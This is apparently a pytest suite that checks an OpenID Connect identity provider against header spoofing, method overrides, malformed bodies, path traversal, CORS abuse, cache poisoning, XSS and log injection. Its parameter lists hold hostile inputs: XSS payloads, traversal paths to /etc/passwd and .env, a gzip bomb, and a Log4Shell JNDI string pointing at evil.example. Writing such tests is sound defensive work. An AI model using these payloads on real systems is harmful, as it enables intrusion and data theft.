"""R-25, R-29 to R-32, R-41 to R-49: hosts, methods, origins, sizes, kinds of body and paths that nobody honest sends."""

import gzip
import html.parser
import json
from collections.abc import Iterator, Mapping
from functools import partial

import pytest

from idp_tests.attacks.stages import Stages
from idp_tests.attacks.target import Target
from idp_tests.provider import ISSUER, PARTNER_SECRET
from idp_tests.relying_party import FORM

PUBLISHED = ("/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/jwks.json")
PROGRAMS = ("/token", "/par", "/introspect", "/revoke")
EVERYWHERE = (*PUBLISHED, *PROGRAMS, "/authorize", "/userinfo", "/logout", "/livez", "/readyz", "/signin/x", "/nowhere")

HOSTS: tuple[dict[str, str], ...] = (
    {"Host": "evil.example"},
    {"Host": "evil.example:443"},
    {"Host": "id.example:8443"},
    {"Host": "id.example.evil.example"},
    {"Host": "id.example@evil.example"},
    {"Host": "localhost"},
    {"Host": "127.0.0.1"},
    {"Host": "[::1]"},
    {"Host": ""},
    {"Host": "id.example evil.example"},
    {"Host": "<script>alert(1)</script>"},
    {"X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-Proto": "http"},
    {"X-Forwarded-Port": "1"},
    {"X-Forwarded-Prefix": "/evil"},
    {"X-Forwarded-Server": "evil.example"},
    {"X-Forwarded-For": "203.0.113.1, evil"},
    {"X-Original-URL": "/evil"},
    {"X-Rewrite-URL": "/evil"},
    {"X-Host": "evil.example"},
    {"X-Real-IP": "203.0.113.1"},
    {"X-Script-Name": "/evil"},
    {"Forwarded": "for=203.0.113.1;host=evil.example;proto=http"},
    {"Front-End-Https": "off"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http", "X-Forwarded-Prefix": "/evil", "Host": "evil.example"},
)  # fmt: skip


def host_id(headers: Mapping[str, str]) -> str:
    return ", ".join(f"{name}={value!a}" for name, value in headers.items())[:60]


@pytest.mark.parametrize("path", PUBLISHED)
@pytest.mark.parametrize("headers", HOSTS, ids=host_id)
def test_what_we_publish_does_not_depend_on_the_callers_headers(
    target: Target, path: str, headers: dict[str, str]
) -> None:
    honest = target.get(path)
    spoilt = target.http.get(path, headers=headers, base_url=ISSUER)
    assert spoilt.get_data() == honest.get_data()
    assert spoilt.headers["ETag"] == honest.headers["ETag"]
    assert spoilt.headers["Cache-Control"] == "public, max-age=3600"
    assert "Set-Cookie" not in spoilt.headers


@pytest.mark.parametrize("headers", HOSTS, ids=host_id)
def test_nobody_is_led_to_a_host_of_the_callers_choice(target: Target, headers: dict[str, str]) -> None:
    """Redirects, pages, cookies and challenges name our issuer or no host at all."""
    for path, query in (
        ("/authorize", target.question("minasidor")),
        ("/authorize", target.question("minasidor", prompt="none")),
        ("/authorize", {}),
        ("/logout", {}),
        ("/userinfo", {}),
        ("/nowhere", {}),
        ("/signin/x/bankid", {}),
    ):
        response = target.http.get(path, query_string=query, headers=headers, base_url=ISSUER)
        target.check_answer(response)
        assert "evil" not in response.get_data(as_text=True)
        assert "evil" not in str(response.headers)
        for line in response.headers.getlist("Set-Cookie"):
            assert "; Secure" in line
            assert "Domain" not in line


@pytest.mark.parametrize("headers", HOSTS, ids=host_id)
def test_the_address_told_to_bankid_is_not_the_callers_choice(target: Target, headers: dict[str, str]) -> None:
    """Without a trusted proxy nobody's X-Forwarded-For is believed; the way back leads to our issuer."""
    bankid = target.provider.bankid
    browser = target.provider.browser(**{name: value for name, value in headers.items() if name != "Host"})
    browser.authorize().start("same_device")
    asked = bankid.requests[-1]
    assert asked.end_user_ip == "127.0.0.1"
    assert "evil" not in str(asked.return_url)
    browser.get(f"{browser.base}/bankid").submit("/bankid/cancel")
    target.provider.collect()


METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "EVIL", "get")


@pytest.mark.parametrize("path", EVERYWHERE)
@pytest.mark.parametrize("method", METHODS)
def test_a_method_that_has_no_meaning_does_nothing(target: Target, path: str, method: str) -> None:
    headers = {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "POST", "X-Method-Override": "PUT"}
    with target.unchanged():
        response = target.http.open(path, method=method, headers=headers, base_url=ISSUER)
    target.check_answer(response)
    if method in {"TRACE", "CONNECT", "PUT", "PATCH", "DELETE", "PROPFIND", "EVIL"}:
        assert response.status_code in {404, 405}
        assert "X-HTTP-Method" not in response.get_data(as_text=True)
    if method == "HEAD":
        assert response.get_data() == b""


@pytest.mark.parametrize("path", PROGRAMS)
@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "DELETE", "PATCH"])
def test_credentials_in_an_address_are_not_even_looked_at(target: Target, path: str, method: str) -> None:
    query = {"client_id": "partner", "client_secret": PARTNER_SECRET, "token": "x", "_method": "POST"}
    with target.unchanged():
        response = target.http.open(path, method=method, query_string=query, base_url=ISSUER)
    assert response.status_code == 405
    assert "POST" in response.headers["Allow"]


KINDS: tuple[str | None, ...] = (
    None, "", "text/plain", "application/json", "application/json; charset=utf-8", "application/xml", "text/html",
    "multipart/form-data; boundary=x", "multipart/mixed; boundary=x", "application/octet-stream",
    "application/x-www-form-urlencoded-evil", "x/x-www-form-urlencoded", "application/jwt", "application/graphql",
    "application/x-www-form-urlencoded/", "å/å", "a" * 5_000, "application/x-msgpack", "application/cbor",
)  # fmt: skip


@pytest.mark.parametrize("path", [*PROGRAMS, "/authorize", "/logout"])
@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: str(kind)[:40])
def test_a_body_of_another_kind_is_not_read(target: Target, path: str, kind: str | None) -> None:
    body = b"client_id=partner&client_secret=" + PARTNER_SECRET.encode() + b"&token=x"
    target.strike(partial(target.post, path, body, content_type=kind), status={400, 401})


@pytest.mark.parametrize("path", [*PROGRAMS, "/authorize", "/logout"])
@pytest.mark.parametrize(
    "body",
    [b"{}", b"[]", b"null", b'{"client_id":"partner","client_secret":"x"}', b"\x00" * 100, b"\xff\xfe\x00", b"<a/>",
     b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb\r\n--x--", b"=", b"&&&&", b"a", b";" * 500, b"%", b"%zz=%zz",
     gzip.compress(b"client_id=partner"), b"\r\n\r\nGET / HTTP/1.1", b"a=b;c=d", b"%u0061=b"],
    ids=lambda body: ascii(body)[2:30],
)  # fmt: skip
def test_a_body_of_nonsense_is_refused(target: Target, path: str, body: bytes) -> None:
    told = None if path == "/logout" else 1
    target.strike(partial(target.post, path, body), status={303, 400, 401}, told=told)


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "identity, gzip", "x"])
@pytest.mark.parametrize("path", PROGRAMS)
def test_a_compressed_body_is_not_unpacked(target: Target, path: str, encoding: str) -> None:
    bomb = gzip.compress(b"client_id=" + b"a" * 5_000_000)
    target.strike(
        partial(target.post, path, bomb, {"Content-Encoding": encoding}),
        status={400, 401, 415},
        error={"invalid_request", "invalid_client"},
    )


@pytest.mark.parametrize("path", PROGRAMS)
def test_a_body_beyond_the_limit_is_not_read(target: Target, path: str) -> None:
    body = b"client_id=partner&x=" + b"a" * 70_000
    target.strike(partial(target.post, path, body), status=413, error="invalid_request")


@pytest.mark.parametrize("path", ["/authorize", "/logout"])
def test_a_browsers_body_beyond_the_limit_is_told_on_a_page(target: Target, path: str) -> None:
    target.strike(partial(target.post, path, b"x=" + b"a" * 70_000), status={400, 413})


@pytest.mark.parametrize("length", ["-1", "abc", "99999999999999999999", "1e3", "0x10", "+5", " 5"])
@pytest.mark.parametrize("path", PROGRAMS)
def test_a_length_that_is_none_is_survived(target: Target, path: str, length: str) -> None:
    response = target.http.post(
        path,
        data=b"client_id=partner",
        content_type=FORM,
        environ_overrides={"CONTENT_LENGTH": length},
        base_url=ISSUER,
    )
    target.check_answer(response)
    assert response.status_code in {400, 401, 413}


@pytest.mark.parametrize("count", [51, 100, 1_000, 10_000])
@pytest.mark.parametrize("path", [*PROGRAMS, "/authorize", "/logout"])
def test_too_many_parameters_are_refused(target: Target, path: str, count: int) -> None:
    body = b"&".join(b"p%d=1" % number for number in range(count))
    target.strike(partial(target.post, path, body), status={400, 413})


HEADERS: tuple[tuple[str, str], ...] = (
    ("Accept", "*/*;q=" + "9" * 1_000), ("Accept", "," * 5_000), ("Accept", "å"), ("Accept-Language", "x" * 5_000),
    ("Accept-Language", ",".join(f"sv;q=0.{n}" for n in range(2_000))), ("Accept-Language", ";;;;,,,q=x"),
    ("Accept-Language", "sv;q=NaN"), ("Accept-Encoding", "gzip;q=x"), ("User-Agent", ""), ("User-Agent", "å" * 300),
    ("User-Agent", "A" * 20_000), ("User-Agent", "<script>alert(1)</script>"), ("Referer", "javascript:alert(1)"),
    ("Range", "bytes=0-1"), ("Range", "bytes=-1"), ("Range", "bytes=" + ",".join("0-" for _ in range(2_000))),
    ("If-None-Match", "*"), ("If-None-Match", '"' * 2_000), ("If-Modified-Since", "never"), ("If-Match", '"x"'),
    ("Authorization", "Basic"), ("Authorization", "å"), ("Cookie", ";" * 5_000), ("Cookie", "=" * 500),
    ("Cookie", "a=" + "b" * 20_000), ("Cookie", '__Host-form="'), ("Cookie", "__Host-form=.eJx.x.y"),
    ("Cookie", "__Host-language=xx"), ("Cookie", "__Host-browser=" + "x" * 500), ("Cookie", "__Host-customer='; DROP"),
    ("DPoP", "x"), ("Origin", "null"), ("Sec-Purpose", "prefetch"), ("Expect", "100-continue"), ("Upgrade", "h2c"),
    ("Transfer-Encoding", "chunked"), ("Content-Type", "\u00e5"), ("X-Request-Id", "\u2028"), ("Connection", "x, y"),
)  # fmt: skip


@pytest.mark.parametrize(("name", "value"), HEADERS, ids=lambda text: ascii(text)[1:24])
def test_a_header_of_nonsense_breaks_nothing(target: Target, name: str, value: str) -> None:
    with target.unchanged(frozenset({"interactions"})):
        for path in EVERYWHERE:
            query = target.question("minasidor") if path == "/authorize" else {}
            response = target.http.get(
                path, query_string=query, headers={name: value.encode().decode("latin-1")}, base_url=ISSUER
            )
            target.check_answer(response)
            assert "<script>alert" not in response.get_data(as_text=True)


PATHS: tuple[str, ...] = (
    "//authorize", "/authorize/", "/authorize;x=y", "/authorize%2f", "/authorize%00", "/./authorize", "/x/../authorize",
    "/AUTHORIZE", "/%61uthorize", "/authorize\\", "/authorize%5c", "/authorize.json", "//evil.example/", "/\\evil.example",
    "/token/", "/token;jsessionid=1", "//token", "/x/..;/token", "/%2e%2e/token", "/token%20", "/token%0a", "/TOKEN",
    "/.well-known/openid-configuration/", "/.well-known/../.well-known/openid-configuration", "/.well-known/",
    "/.well-known/openid-configuration/x", "/signin", "/signin/", "/signin//bankid", "/signin/%2e%2e/token", "/static/",
    "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static/%2e%2e%2fidp.toml", "/static//etc/passwd",
    "/static/..%5capp.py", "/static/%00", "/admin", "/metrics", "/console", "/debug", "/.git/config", "/.env", "/idp.toml",
    "/keys", "/config", "/idp.db", "/backup.sql", "/phpinfo.php", "/wp-login.php", "/%c0%ae%c0%ae/", "/%ff", "/" + "a" * 8_000,
    "/favicon.ico", "/robots.txt", "/*", "/?", "/#", "/%", "/%zz", "/jwks.json/x", "/jwks.json%00.html", "/logout/",
    "/logout/answer/", "/logout/x", "/logout//answer", "/token/token", "/connect/register", "/register/../token",
    "/oauth2/token", "/userinfo/", "/revoke/x", "/device_authorization", "/bc-authorize", "/checksession",
)  # fmt: skip


@pytest.mark.parametrize("path", PATHS, ids=lambda path: path[:40])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_path_that_is_nearly_one_of_ours_leads_nowhere(target: Target, path: str, method: str) -> None:
    with target.unchanged():
        response = target.http.open(path, method=method, base_url=ISSUER)
    target.check_answer(response)
    assert response.status_code in {200, 303, 308, 400, 401, 403, 404, 405}
    text = response.get_data(as_text=True)
    assert "root:" not in text
    assert "[database]" not in text
    assert "PRIVATE KEY" not in text


# --- other sites' scripts -----------------------------------------------------------------------------------------------

ORIGINS = (
    "https://evil.example", "null", "https://minasidor.example.evil.example", "https://evilminasidor.example",
    "https://minasidor.example:8443", "http://minasidor.example", "https://MINASIDOR.example", "https://minasidor.example/",
    "https://minasidor.example.", "https://a.minasidor.example", "file://", "chrome-extension://abc", "app://x", "*", "",
    "https://id.example.evil.example", "https://minasidor.example https://evil.example", "http://localhost", "http://127.0.0.1:1234",
    "https://minasidor.example\\evil", "data:", "undefined", "https://[::1]",
)  # fmt: skip


@pytest.mark.parametrize("origin", ORIGINS, ids=ascii)
@pytest.mark.parametrize("path", ["/token", "/userinfo", "/revoke", "/par"])
def test_a_page_of_another_site_reads_nothing(target: Target, path: str, origin: str) -> None:
    """R-31: neither with a preflight nor without one; never with cookies."""
    preflight = {"Origin": origin, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "dpop"}
    asked = target.http.options(path, headers=preflight, base_url=ISSUER)
    called = target.post(path, {"client_id": "mittprezero"}, {"Origin": origin})
    for response in (asked, called):
        assert "Access-Control-Allow-Origin" not in response.headers
        assert "Access-Control-Allow-Credentials" not in response.headers
        assert "Origin" in response.headers["Vary"]


@pytest.mark.parametrize("path", ["/authorize", "/logout", "/signin/x", "/introspect", "/livez", "/nowhere"])
def test_an_endpoint_that_scripts_have_no_business_at_answers_no_preflight(target: Target, path: str) -> None:
    for origin in ("https://minasidor.example", "https://evil.example"):
        response = target.http.options(
            path, headers={"Origin": origin, "Access-Control-Request-Method": "POST"}, base_url=ISSUER
        )
        assert "Access-Control-Allow-Origin" not in response.headers


@pytest.mark.parametrize("path", PUBLISHED)
def test_what_is_public_is_readable_everywhere_and_never_with_cookies(target: Target, path: str) -> None:
    response = target.get(path, Origin="https://evil.example")
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response.headers


@pytest.mark.parametrize("path", PUBLISHED)
@pytest.mark.parametrize("query", ["?x=1", "?callback=evil", "?Host=evil", "?%0d%0aSet-Cookie:x=y", "?" + "a" * 5_000])
def test_a_cached_answer_cannot_be_poisoned(target: Target, path: str, query: str) -> None:
    honest, spoilt = target.get(path), target.http.get(f"{path}{query}", base_url=ISSUER)
    assert spoilt.get_data() == honest.get_data()
    assert dict(spoilt.headers).keys() == dict(honest.headers).keys()


def test_the_key_set_holds_no_private_member(target: Target) -> None:
    for key in target.get("/jwks.json").get_json()["keys"]:
        assert not {"d", "p", "q", "dp", "dq", "qi", "k", "oth"} & key.keys()


# --- pages --------------------------------------------------------------------------------------------------------------

PAGES = ("start", "leave", "link", "register", "again", "choose", "consent", "logout")


SAFE = ("https://", "tel:", "mailto:", "http://127.0.0.1")


class Parsed(html.parser.HTMLParser):
    """What a browser would load, run or send because of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def problems(self) -> Iterator[str]:
        for tag, attributes in self.tags:
            for name, value in attributes.items():
                if name.startswith("on") or name == "style":
                    yield f"<{tag} {name}>"
                loads = name in {"src", "href", "data"} and tag in {"script", "link", "img", "iframe"}
                if loads and not value.startswith(("/static/", "/signin/", "data:image")):
                    yield f"<{tag} {name}={value}>"
                if name in {"src", "href", "action", "formaction"} and ":" in value and not value.startswith(SAFE):
                    yield f"<{tag} {name}={value}>"
            if tag == "script" and "src" not in attributes:
                yield "an inline script"
            if tag in {"object", "embed", "applet", "base"}:
                yield tag


@pytest.fixture(scope="module")
def stages(target: Target) -> Stages:
    return Stages(target)


@pytest.mark.parametrize("name", PAGES)
def test_no_page_can_be_framed_kept_or_made_to_load_from_elsewhere(target: Target, stages: Stages, name: str) -> None:
    """R-25 and R-30 on every page of the sign-in; the answers on the way here were checked, too."""
    browser = stages.named(name).browser
    target.check_answer(browser.response)
    assert browser.response.mimetype == "text/html"
    assert list(Parsed(browser.page).problems()) == []
    assert "unsafe" not in browser.response.headers["Content-Security-Policy"]


@pytest.mark.parametrize("path", ["/authorize", "/nowhere/signin", "/signin/x", "/signin/x/bankid", "/logout", "/"])
def test_no_error_page_can_be_framed_or_kept(target: Target, path: str) -> None:
    response = target.http.get(path, headers={"Accept": "text/html"}, base_url=ISSUER)
    target.check_answer(response)


PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><svg onload=alert(1)>",
    "javascript:alert(1)", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% raw %}", "<!--", "]]>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<math><mtext></form><form><mglyph>",
    "\u003cscript\u003e", "&lt;script&gt;", "%3Cscript%3E", "+ADw-script+AD4-", '<a href="javas\tcript:alert(1)">', "\x0b<b>",
    "<img/src=`x`onerror=alert(1)>", "<body onload=alert(1)>", "<style>@import'//evil'</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u2028alert(1)", "<scr<script>ipt>", "\u202egnp.exe",
)  # fmt: skip
ECHOING = ("state", "nonce", "login_hint", "ui_locales", "acr_values", "client_id", "redirect_uri", "scope", "prompt",
           "response_mode", "display", "claims", "lang", "error_hint", "error")  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[1:30])
def test_nothing_that_is_sent_becomes_markup(target: Target, payload: str) -> None:
    """R-26: in every parameter of the browser's endpoints, on pages, error pages and self-posting answers."""
    for name in ECHOING:
        for mode in ({}, {"response_mode": "form_post"}):
            query = {**target.question("minasidor", prompt="none"), **mode, name: payload}
            response = target.get("/authorize", query)
            target.check_answer(response)
            if response.mimetype == "text/html":
                assert list(Parsed(response.get_data(as_text=True)).problems()) == [], name
    for name in (
        "state",
        "client_id",
        "post_logout_redirect_uri",
        "id_token_hint",
        "ui_locales",
        "lang",
        "logout_hint",
    ):
        response = target.get("/logout", {name: payload})
        target.check_answer(response)
        assert list(Parsed(response.get_data(as_text=True)).problems()) == [], name
    for path in (f"/signin/{payload.replace('/', '')}", "/signin/x/bankid/back"):
        response = target.http.get(path, query_string={"n": payload, "lang": payload}, base_url=ISSUER)
        target.check_answer(response)
        assert list(Parsed(response.get_data(as_text=True)).problems()) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[1:30])
def test_nothing_that_is_typed_becomes_markup(target: Target, stages: Stages, payload: str) -> None:
    for name, fields in (("link", ("customer_number", "last_four")), ("register", ("phone", "email"))):
        stage = stages.named(name)
        response = stage.send(fields={**stage.fields, **dict.fromkeys(fields, payload)})
        target.check_answer(response)
        assert response.status_code == 422
        parsed = Parsed(response.get_data(as_text=True))
        assert list(parsed.problems()) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[1:30])
def test_an_answer_that_posts_itself_carries_its_values_as_they_are(target: Target, payload: str) -> None:
    query = target.question("minasidor", prompt="none", response_mode="form_post", state=payload)
    page = Parsed(target.get("/authorize", query).get_data(as_text=True))
    values = {attributes["name"]: attributes["value"] for tag, attributes in page.tags if tag == "input"}
    assert values["state"] == payload
    assert values["iss"] == ISSUER
    forms = [attributes["action"] for tag, attributes in page.tags if tag == "form"]
    assert forms == ["https://minasidor.example/cb"]


HOSTILE_TEXTS = (
    'x\r\n{"event":"forged"}', "x\n2026-01-01 error forged", "\x1b[2J\x1b[1;31mforged", "\u2028forged", "\x00forged", "{event}", "%s%s%n",
    "${jndi:ldap://evil.example/x}", "\x85forged", "a" * 4_000,
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=lambda text: ascii(text)[1:30])
def test_nothing_that_is_sent_stands_in_the_log(target: Target, text: str) -> None:
    """R-46: fields of the log are ours; what a caller wrote is described, not copied."""
    from structlog.testing import capture_logs

    with capture_logs() as lines:
        target.get("/authorize", target.question("minasidor", state=text, nonce=text, scope=text))
        target.get("/authorize", {"client_id": text, "redirect_uri": text})
        target.get("/logout", {"state": text, "client_id": text, "id_token_hint": text})
        target.post("/token", {"client_id": text, "client_secret": text, "grant_type": text})
        target.get(
            "/userinfo",
            Authorization="Bearer " + text.encode("ascii", "ignore").decode().replace("\r\n", "").replace("\n", ""),
        )
        target.http.get("/signin/" + text.replace("/", ""), base_url=ISSUER)
    assert lines
    for line in lines:
        shown = json.dumps(line, default=str)
        if line.get("client_id") != text:
            assert "forged" not in shown.replace("client_id", ""), line
